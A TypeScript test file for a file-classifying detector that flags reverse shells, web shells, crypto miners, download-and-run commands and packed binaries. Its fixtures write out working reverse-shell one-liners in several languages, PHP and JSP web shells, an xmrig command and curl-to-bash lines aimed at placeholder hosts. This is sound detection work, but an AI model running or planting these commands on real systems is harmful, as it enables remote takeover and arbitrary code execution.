import { describe, expect, it, test } from 'vitest';
import { mkFile } from './looked.fixture.ts';
import { createLooker } from './looker.ts';

describe('the looker', () => {
  it('tells programs, scripts and sources by their first bytes and names', () => {
    expect(mkFile('usr/bin/x', Buffer.from('\x7fELF\x02\x01\x01'))).toMatchObject({ marks: [{ is: 'program' }] });
    expect(mkFile('usr/bin/y', '#!/usr/bin/env python3\n')).toMatchObject({
      marks: [{ is: 'script', says: 'python3' }],
    });
    expect(mkFile('srv/x.php', '<?php echo 1;')).toMatchObject({ marks: [{ is: 'source', says: 'php' }] });
    expect(mkFile('srv/x.txt', 'curl http://x.example | sh')).toEqual(
      expect.not.objectContaining({ marks: expect.anything() }),
    );
  });

  it.each([
    ['as far as the kernel reads', `#!${' '.repeat(240)}/bin/sh\n`, { is: 'script', says: '/bin/sh' }],
    ['further than the kernel reads', `#!${' '.repeat(248)}/bin/sh\n`, { is: 'text', says: 'sh' }],
    ['not at all', 'exit 0\n', { is: 'text', says: 'sh' }],
    ['in the first line nowhere', '#!\nexit 0\n', { is: 'text', says: 'sh' }],
    ['as all that there is', '#!/bin/sh', { is: 'script', says: '/bin/sh' }],
  ])('the interpreter of an executable file is named %s', (_, text, mark) => {
    expect(mkFile('usr/bin/x', text, undefined, 0o755).marks).toEqual([mark]);
  });

  it.each([
    ['opt/run.sh', '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n', 'reverse-shell'],
    ['opt/run.sh', '#!/bin/sh\nnc 192.0.2.1 4444 -e /bin/sh\n', 'reverse-shell'],
    ['opt/run.sh', '#!/bin/bash\nexec 5<>/dev/tcp/192.0.2.1/443\nbash <&5 >&5 2>&5; sh <&5\n', 'reverse-shell'],
    [
      'opt/run.sh',
      '#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/f\n',
      'reverse-shell',
    ],
    [
      'opt/x.py',
      'import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn("/bin/sh")\n',
      'reverse-shell',
    ],
    ['opt/x.pl', 'use Socket;open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");', 'reverse-shell'],
    ['opt/x.php', '<?php $s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");', 'reverse-shell'],
    [
      'opt/x.js',
      'const c = new net.Socket(); const sh = cp.spawn("/bin/sh", []); c.connect(1, "x"); client.pipe(sh.stdin);',
      'reverse-shell',
    ],
    ['srv/x.php', '<?php @eval($_POST["c"]);', 'web-shell'],
    ['srv/x.php', '<?php system(base64_decode($_GET["c"]));', 'web-shell'],
    ['srv/x.php', '<?php eval(gzinflate(base64_decode("xx")));', 'web-shell'],
    ['srv/x.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', 'web-shell'],
    ['srv/x.py', 'os.popen(request.args["c"])', 'web-shell'],
    ['opt/m.sh', '#!/bin/sh\nxmrig -o pool.example:3333 -u wallet -p x\n', 'miner'],
    ['opt/m.js', 'connect("stratum+tcp://pool.example:3333")', 'miner'],
    ['opt/d.sh', '#!/bin/sh\ncurl -fsSL https://evil.example/i | bash\n', 'download-to-shell'],
    ['opt/d.sh', '#!/bin/sh\nbash <(curl -s https://evil.example/i)\n', 'download-to-shell'],
    ['opt/d.sh', '#!/bin/sh\nsh -c "$(wget -qO- https://evil.example/i)"\n', 'download-to-shell'],
    ['etc/cron.d/x', '* * * * * root wget -qO- https://evil.example/i | sh\n', 'download-to-shell'],
    ['opt/d.py', 'os.system("curl https://evil.example/i | sh")', 'download-to-shell'],
  ])('%s with %j: %s', (path, text, kind) => {
    expect(mkFile(path, text).marks?.map((one) => one.is)).toContain(kind);
  });

  it.each([
    ['usr/bin/wait.sh', '#!/bin/bash\n(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n'],
    ['usr/bin/check.sh', '#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\n'],
    ['opt/d.sh', '#!/bin/sh\n# curl -fsSL https://sh.example/i | sh\ncurl -o x https://sh.example/i\n'],
    ['opt/d.py', '"""Install with curl https://sh.example/i | sh"""\n'],
    ['srv/x.php', '<?php $name = $_POST["name"]; echo htmlspecialchars($name);'],
    ['opt/h.sh', '#!/bin/sh\ncurl -f http://localhost/ || exit 1\n'],
  ])('an ordinary %s has no sign', (path, text) => {
    expect(mkFile(path, text).marks?.map((one) => one.is)).toEqual(
      expect.not.arrayContaining(['reverse-shell', 'web-shell', 'miner', 'download-to-shell']),
    );
  });

  it('sees a miner in a program whatever the pieces are in which its bytes come', () => {
    const program = Buffer.concat([
      Buffer.from('\x7fELF', 'latin1'),
      Buffer.alloc(300_000, 1),
      Buffer.from('stratum+tcp://'),
      Buffer.alloc(400_000, 2),
      Buffer.from('cryptonight'),
      Buffer.alloc(1000, 3),
    ]);
    for (const size of [7, 4096, 300_010, program.length])
      expect(mkFile('usr/bin/kworker', program, size).marks).toContainEqual({
        is: 'miner',
        says: 'stratum+tcp://, cryptonight',
      });
    const half = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.from('stratum+tcp://')]);
    expect(mkFile('usr/bin/tool', half).marks).toEqual([{ is: 'program', says: 'ELF' }]);
  });

  it('keeps small settings, and says what is too long to be kept', () => {
    expect(mkFile('etc/passwd', 'root:x:0:0::/:/bin/sh\n').content?.toString()).toBe('root:x:0:0::/:/bin/sh\n');
    expect(mkFile('etc/motd', 'hello').content).toBeUndefined();
    expect(mkFile('etc/passwd', Buffer.alloc(1024 * 1024 + 1, 'x'), 65_536)).toMatchObject({
      marks: [{ is: 'too-long' }],
    });
  });

  it('tells packed programs', () => {
    const packed = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(200), Buffer.from('UPX!')]);
    expect(mkFile('usr/bin/x', packed).marks).toContainEqual({ is: 'packed', says: 'UPX' });
  });
});

describe('texts that are made to cost time', () => {
  // A hundred thousand times what makes each pattern begin. With patterns that look back and forth this took hours.
  test.each([
    'curl wget ',
    '.connect(dup2(s.fileno(),0',
    'mkfifo sh -i ',
    'xmrig -o ',
    'system(curl ',
    'eval($_GET(',
    'nc -e ',
  ])('%j, over and over', (text) => {
    expect(mkFile('opt/x.sh', `#!/bin/sh\n${text.repeat(100_000)}`).marks).toContainEqual({
      is: 'script',
      says: '/bin/sh',
    });
  });
});

it('has another version where something else is wanted, in whatever order', () => {
  const versionOf = (...wanted: readonly string[]) =>
    createLooker({
      isRecord: () => false,
      wanted: new Map(wanted.map((path) => [path, new Set(['ssh-keys'] as const)])),
    }).version;
  expect(versionOf('opt/a', 'opt/b')).toBe(versionOf('opt/b', 'opt/a'));
  expect(new Set([versionOf(), versionOf('opt/a'), versionOf('opt/b')]).size).toBe(3);
});
